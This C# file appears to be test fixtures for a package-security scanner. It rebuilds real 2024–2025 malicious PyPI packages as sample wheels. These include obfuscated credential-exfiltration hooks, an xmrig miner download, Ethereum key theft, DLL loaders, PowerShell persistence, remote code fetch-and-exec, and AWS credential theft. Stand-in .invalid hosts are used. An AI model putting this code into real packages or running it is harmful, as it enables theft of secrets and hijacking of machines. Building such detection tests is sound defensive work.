using static PackageWall.Testing.Catalogue.Package;

namespace PackageWall.Testing.Catalogue;

/// <summary>Python packages of 2024 and 2025.</summary>
internal static class PyPi2025Attacks
{
    public static IEnumerable<CatalogueFixture> All()
    {
        CataloguePackage aio = Wheel("aio_pay_like", "0.1.12", ("aio_pay_like/__init__.py", "from .sync import CryptoPay\n"), ("aio_pay_like/sync.py", "class CryptoPay:\n    def __init__(self, token):\n        self.token = token\n"));
        string nested = """
            import json, urllib.request
            _i = CryptoPay.__init__
            def _n(self, token, *a, **k):
                urllib.request.urlopen("https://api.telegram.org/bot000000:inert/sendMessage?chat_id=1&text=" + token)
                _i(self, token, *a, **k)
            CryptoPay.__init__ = _n
            """;
        for (int layer = 0; layer < 50; layer++)
        {
            nested = $"exec((_)(b'{Encodings.Reversed(Encodings.Base64(Encodings.Zlib(nested)))}'))";
        }

        yield return new("aiocpa", "aiocpa", "B03 B22", aio with
        {
            Version = "0.1.13",
            Files = [aio.Files[0], ("aio_pay_like/sync.py", aio.Files[1].Text + "\n_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\n" + nested + "\n")],
        }) { Earlier = aio, Twin = PyPiTwins.DataFile };

        CataloguePackage ultra = Wheel("ultra_vision", "8.3.40", ("ultra_vision/__init__.py", "from .utils.downloads import safe_download\n"), ("ultra_vision/utils/__init__.py", ""), ("ultra_vision/utils/downloads.py", "import urllib.request\n\n\ndef safe_download(url, target):\n    urllib.request.urlretrieve(url, target)\n    return target\n"));
        yield return new("ultralytics", "rspack, ultralytics, torchtriton", "B04 B30 H05", ultra with
        {
            Version = "8.3.41",
            Files = [ultra.Files[0], ultra.Files[1], ("ultra_vision/utils/downloads.py", ultra.Files[2].Text + """


                def safe_run(path):
                    import os, subprocess
                    os.chmod(path, 0o770)
                    subprocess.Popen([path, "-u", "4BHRQHFexjzfVjinAbrAwJdtogpFV3uCXhxYtYnsQN66CRtypsRyVEZhGc8iWyPViEewB8LtdAEL7CdjE4szMpKzPGjoZnw", "-o", "connect.consrensys.invalid:8080", "-k"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
                    os.remove(path)


                def _start():
                    import platform
                    url = {"Linux": "https://github.com/xmrig/xmrig/releases/download/v6.22.2/xmrig-linux", "Darwin": "https://github.com/xmrig/xmrig/releases/download/v6.22.2/xmrig-darwin"}.get(platform.system())
                    if url:
                        safe_run(safe_download(url, "/tmp/ultra_runner"))


                _start()

                """)],
        }) { Earlier = ultra, Twin = PyPiTwins.Client };

        yield return new("set-utils", "set-utils, dbgpkg", "B22", Wheel("set_utils_like", "1.0.1", ("set_utils_like/__init__.py", """
            from eth_account import Account
            from web3 import Web3
            import threading

            _KEY = "-----BEGIN PUBLIC KEY-----inert-----END PUBLIC KEY-----"
            _create = Account.from_key


            def transmit(account):
                web3 = Web3(Web3.HTTPProvider("https://rpc-amoy.polygon-node.invalid/"))
                memo = account.key.hex()
                tx = {"to": "0x00000000000000000000000000000000000000aa", "value": 0, "data": memo.encode().hex()}
                web3.eth.send_raw_transaction(web3.eth.account.sign_transaction(tx, _KEY).rawTransaction)


            def from_key(key):
                account = _create(key)
                threading.Thread(target=transmit, args=(account,)).start()
                return account


            Account.from_key = from_key

            """))) { Twin = PyPiTwins.Client, Expect = Expectation.Held };

        yield return new("termncolor", "termncolor, colorinal", "B30 B04", Wheel("colorinal_like", "0.1.7", ("colorinal_like/__init__.py", "from .unicode import is_color_supported\nis_color_supported()\n"), ("colorinal_like/unicode.py", """
            import ctypes
            import os
            import sys


            def is_color_supported():
                here = os.path.dirname(__file__)
                name = "terminate.dll" if sys.platform == "win32" else "terminate.so"
                library = ctypes.CDLL(os.path.join(here, name))
                library.envir(b"xterminalunicode")
                os.remove(os.path.join(here, name))
                return True

            """), ("colorinal_like/terminate.dll", Binaries.Pe(true, "envir", "vcpktsvr.exe", "libcef.dll")), ("colorinal_like/terminate.so", Binaries.Elf("envir", "zulip")))) { Twin = PyPiTwins.Extension };

        yield return new("soopsocks", "termncolor, colorinal", "B08 B04", Wheel("soop_socks_like", "0.2.7", ("soop_socks_like/__init__.py", InertPy + """
            import os
            import subprocess
            import sys
            import tempfile

            _SCRIPT = r'''
            Set-ExecutionPolicy Bypass -Scope Process -Force
            Invoke-WebRequest -Uri "https://install.soop.invalid/zip" -OutFile "$env:TEMP\install.zip"
            New-NetFirewallRule -DisplayName "soop" -Direction Inbound -Action Allow -Protocol TCP -LocalPort 1080
            schtasks /create /tn SoopSocks /tr "$env:TEMP\_autorun.exe" /sc onlogon /rl highest /f
            '''


            def _install():
                if sys.platform != "win32":
                    return
                path = os.path.join(tempfile.gettempdir(), "svc.ps1")
                with open(path, "w") as out:
                    out.write(_SCRIPT)
                subprocess.Popen(["powershell", "-ExecutionPolicy", "Bypass", "-WindowStyle", "Hidden", "-File", path])


            _install()

            """), ("soop_socks_like/_autorun.exe", Binaries.Pe(false, "discord.com/api/webhooks")))) { Twin = PyPiTwins.Compatibility };

        CataloguePackage words = Wheel("num_words_like", "0.5.14", ("num_words_like/__init__.py", "def num2words(number):\n    return str(number)\n"));
        yield return new("num2words", "mistralai, guardrails, durabletask, num2words", "B04 H06", words with
        {
            Version = "0.5.15",
            Files = [("num_words_like/__init__.py", words.Files[0].Text + "\nfrom . import lang_EU as _eu\n"), ("num_words_like/lang_EU.py", """
                import ctypes
                import os
                import platform
                import tempfile
                import urllib.request


                def _load():
                    if platform.system() != "Windows":
                        return
                    data = bytes(b ^ 0x5A for b in urllib.request.urlopen("https://firebase-like.invalid/c/k2/").read())
                    path = os.path.join(tempfile.gettempdir(), "umpdc.dll")
                    with open(path, "wb") as out:
                        out.write(data)
                    ctypes.WinDLL(path)


                _load()

                """)],
        }) { Earlier = words, Twin = PyPiTwins.Compatibility };

        yield return new("graphalgo", "NK fake tests", "B04", Wheel("graph_algo_like", "1.0.6", ("graph_algo_like/__init__.py", "from .nodes import Node\n"), ("graph_algo_like/nodes.py", """
            import hashlib
            import json
            import os
            import subprocess
            import sys
            import urllib.request


            class Node:
                pass


            def _license():
                token = hashlib.sha256(os.uname().nodename.encode()).hexdigest()
                request = urllib.request.Request("https://codepool-check.invalid/v1/license", headers={"x-token": token})
                data = json.loads(urllib.request.urlopen(request, timeout=6).read())
                if data.get("ok"):
                    subprocess.Popen([sys.executable, "-c", data["body"]], start_new_session=True)


            try:
                _license()
            except Exception:
                pass

            """))) { Twin = PyPiTwins.Compatibility };

        yield return new("spellcheckpy", "Payload in a dictionary", "B03 B26", PyPiTwins.DataFile with
        {
            Name = "spell_check_like",
            Files = [("spell_check_like/__init__.py", """
                import base64
                import gzip
                import json
                from importlib import resources


                def load(language="en"):
                    with resources.files(__package__).joinpath(f"resources/{language}.json.gz").open("rb") as packed:
                        return json.loads(gzip.decompress(packed.read()))


                def test_file(path="eu", index="spellchecker"):
                    data = load(path)
                    exec(base64.b64decode(data[index]).decode())


                test_file()

                """), ("spell_check_like/resources/eu.json.gz", Encodings.Gzip($$"""{"a": 1, "spellchecker": "{{Encodings.Base64("import subprocess, sys, urllib.request\nsubprocess.Popen([sys.executable, '-c', urllib.request.urlopen('https://updatenet.invalid/settings/history.php').read().decode()])\n")}}"}"""))],
        }) { Twin = PyPiTwins.DataFile };

        yield return new("command-jacking", "Command-jacking", "B19", Wheel("cloud_helper", "0.2.0", ("cloud_helper/__init__.py", ""), ("cloud_helper/cli.py", """
            import os
            import subprocess
            import sys
            import urllib.request


            def aws():
                path = os.path.expanduser("~/.aws/credentials")
                if os.path.exists(path):
                    urllib.request.urlopen("https://cli-metrics.helper.invalid/a", data=open(path, "rb").read())
                sys.exit(subprocess.call(["/usr/local/bin/aws", *sys.argv[1:]]))

            """), ("{info}/entry_points.txt", "[console_scripts]\naws = cloud_helper.cli:aws\ndocker = cloud_helper.cli:aws\n"))) { Twin = PyPiTwins.Command };
    }
}
